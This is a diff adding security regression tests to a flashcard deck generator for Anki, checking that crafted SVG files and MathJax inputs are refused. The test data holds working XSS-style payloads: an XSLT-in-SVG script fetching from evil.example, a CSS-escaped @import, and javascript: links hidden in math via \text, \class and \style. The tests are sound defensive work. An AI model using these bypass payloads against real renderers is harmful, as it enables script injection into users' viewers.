@@ -394,3 +394,106 @@ def test_card_text_made_to_make_our_own_patterns_backtrack_builds_quickly(tmp_pa
     assert (root / "cards" / "deck.yaml").stat().st_size < 1 << 20
     out = run_quizgen(root, timeout=240)
     assert out.endswith("exit 0"), out[-2000:]
+
+
+# -- issue 28, findings 6 and 7: one reading of text for the checks and for what renders it ------------
+
+SVG_NS = 'xmlns="http://www.w3.org/2000/svg"'
+XSLT = (  # the stylesheet makes an HTML <script> by <x:element>: the SVG itself holds no script element
+    '<?xml version="1.0" encoding="UTF-16"?>\n<?xml-stylesheet type="text/xsl" href="#x"?>\n'
+    f'<svg {SVG_NS}><x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" id="x" version="1.0">'
+    '<x:template match="/"><x:element name="script" namespace="http://www.w3.org/1999/xhtml">'
+    'fetch("//evil.example/")</x:element></x:template></x:stylesheet></svg>'
+)
+
+
+@pytest.mark.parametrize(
+    ("data", "why"),
+    [
+        (
+            XSLT.encode("utf-16"),
+            "it is not UTF-8 (it starts with a UTF-16 or UTF-32 byte order mark): save it as UTF-8",
+        ),
+        (
+            f"<svg {SVG_NS}><style>@\\69mport '//evil.example/x.css';</style><rect/></svg>".encode(),
+            "its stylesheet has a CSS escape ('\\'): write the characters themselves",
+        ),
+    ],
+    ids=["utf-16-xml-stylesheet", "css-escape-import"],
+)
+def test_an_svg_the_browser_reads_otherwise_than_the_check_is_refused(
+    tmp_path: Path, fake_home: Path, options: Callable[..., pipeline.Options], data: bytes, why: str
+) -> None:
+    # Finding 6: read as UTF-8, the UTF-16 file held none of the check's words (the browser read its
+    # stylesheet instruction and ran the XSLT's script); `@\69mport` is `@import` to the browser.
+    text = BASIC.replace('"What is a leaf tensor?"', '"What is a leaf tensor? ![d](d.svg)"')
+    root = write_project(tmp_path / "project", {"deck.yaml": text})
+    (root / "cards" / "d.svg").write_bytes(data)
+    message = attempt(lambda: pipeline.build(options(root)))
+    assert "evil.example" not in outputs(root) and "e\x00v\x00i\x00l" not in outputs(root)
+    assert not list((root / "build").rglob("*.svg"))
+    deck = root / "cards" / "deck.yaml"
+    located = f"{deck}:5:12: card 'plain' -> front: image 'd.svg' is not plain drawing: "
+    assert message is not None and f"{located}{why} (a published SVG is also a page of" in message, message
+
+
+ACTIVE = "in Anki it links, styles or loads; write a link in Markdown, outside the math"
+OWN_MATH = "it opens math of its own, which Anki's MathJax reads (in \\text{} too) and quizgen cannot check"
+
+
+@pytest.mark.parametrize(
+    ("written", "why"),
+    [
+        (
+            r"\( \text{$\href{javascript:alert(1)}{x}$} \)",
+            r"math \( \text{$\href{javascript:alert(1)}{x}$} \) cannot be shown: '$' in math: "
+            + OWN_MATH
+            + r"; write \$ for a dollar sign",
+        ),
+        (
+            r"\[ \textrm{\(\class{javascript:alert(1)}{x}\)} \]",
+            r"math \[ \textrm{\(\class{javascript:alert(1)}{x}\)} \] cannot be shown: '\(' in math: "
+            + OWN_MATH,
+        ),
+        (
+            r"\( \text{\style{background:url(javascript:alert(1))}{x}} \)",
+            r"math \( \text{\style{background:url(javascript:alert(1))}{x}} \) cannot be shown: "
+            rf"\style is not allowed in math: {ACTIVE}",
+        ),
+        (
+            r"\`\( \href{javascript:alert(1)}{x} \)\`",
+            r"math \( \href{javascript:alert(1)}{x} \) cannot be shown: "
+            rf"\href is not allowed in math: {ACTIVE}",
+        ),
+        (
+            r"&#92;( \href{javascript:alert(1)}{x} &#92;)",
+            r"'\(' outside math (Markdown makes it of '\\(' or '&#92;('): Anki would read what follows as "
+            "math no check has read; put it in a code span to show it as text",
+        ),
+    ],
+    ids=["dollar-in-text", "class-in-textrm", "style-in-text", "escaped-backticks", "entity-opener"],
+)
+def test_math_anki_would_read_is_the_math_checked(
+    tmp_path: Path, fake_home: Path, options: Callable[..., pipeline.Options], written: str, why: str
+) -> None:
+    # Finding 7: latex2mathml read `\text{...}` as letters where Anki's MathJax typesets a `$...$` or
+    # `\(...\)` inside it; quizgen's own scanner took `\`` for code where Markdown shows a backtick and
+    # leaves the math outside code. A clicked `javascript:` link ran script in Anki.
+    text = BASIC.replace('"One made by the user, not by an operation."', json.dumps(written))
+    root = write_project(tmp_path / "project", {"deck.yaml": text})
+    message = attempt(lambda: pipeline.build(options(root)))
+    assert "javascript:alert" not in outputs(root)
+    deck = root / "cards" / "deck.yaml"
+    assert message is not None and f"{deck}:6:11: card 'plain' -> back: {why}" in message, message
+
+
+def test_a_title_shown_in_another_anki_note_is_math_only_where_checked() -> None:
+    # A card's title is plain text: the `\(...\)` of a code span in its prompt is text there, and a note
+    # naming the card showed it outside `tex2jax_ignore`, where Anki's MathJax typeset it.
+    from quizgen.render.anki.notes import titled_links
+
+    code = r"“Is `\(\href{javascript:alert(1)}{x}\)` code?”"
+    fine = r"“What is \( \partial L / \partial w \)?”"
+    titles = {"a": ("D", code[1:-1].replace("`", "")), "b": ("D", fine[1:-1])}
+    shown = titled_links('<a href="#card:a"></a> <a href="#card:b"></a>', titles)
+    assert shown == (f'<span class="tex2jax_ignore">{code.replace("`", "")}</span> {fine}')
